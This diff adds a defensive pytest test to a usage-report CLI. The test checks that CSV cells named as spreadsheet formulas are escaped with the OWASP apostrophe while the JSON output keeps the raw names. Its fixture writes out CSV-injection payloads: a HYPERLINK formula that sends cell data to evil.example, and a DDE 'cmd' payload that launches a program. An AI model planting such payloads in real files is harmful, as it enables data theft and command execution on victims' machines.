@@ -203,3 +203,36 @@ def test_csv_and_the_table_say_what_json_says(tmp_path):
     for flags in (("--tz", "Mars/Olympus"), ("--since", "yesterday-ish"), ("--json", "--csv")):
         bad = usage(home, state, *flags, check=False)
         assert bad.returncode == 2 and len(bad.stderr.decode().strip().splitlines()) == 1, flags
+
+
+FORMULAS = {"repository": '=HYPERLINK("//evil.example/x?"&A2,"report")', "branch": "\t+SUM(1+1)",
+            "model": "-2+3+cmd|' /C calc'!A0", "session": " @SUM(1)"}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_json_keeps_them(tmp_path):
+    """A repository, branch, model and session folder named as spreadsheet formulas (=, a tab and +, -, a space
+    and @): every such --csv cell starts with the OWASP escape ' followed by the name, the number cells stay
+    numbers, and --json holds the names as they are."""
+    from tests.support.events import SessionLog
+
+    home, state = tmp_path / "home", tmp_path / "state"
+    log = SessionLog(FORMULAS["session"], model=FORMULAS["model"])
+    log.start(repository=FORMULAS["repository"], branch=FORMULAS["branch"], gitRoot="/work")
+    log.user()
+    log.turn_start()
+    log.usage(input_tokens=1000, output_tokens=10, nano_aiu=2_000_000)
+    log.turn_end()
+    log.shutdown()
+    folder = home / "session-state" / FORMULAS["session"]
+    folder.mkdir(parents=True)
+    write_events(folder / "events.jsonl", log.entries)
+    groups = ("--group", "repository,branch,model,session")
+    report = usage_json(home, state, *groups)
+    [row] = report["rows"]
+    assert {name: row[name] for name in FORMULAS} == FORMULAS
+    text = usage(home, state, "--csv", *groups).stdout.decode()
+    [line] = list(csv.DictReader(io.StringIO(text)))
+    for name, value in FORMULAS.items():
+        shown = value.replace("\t", "\\t")  # what reaches a terminal is escaped too (safe_text)
+        assert line[name] == "'" + shown, (name, line[name])
+    assert line["llm_calls"] == "1" and line["input_tokens"] == "1000" and float(line["ai_credits"]) == 0.002
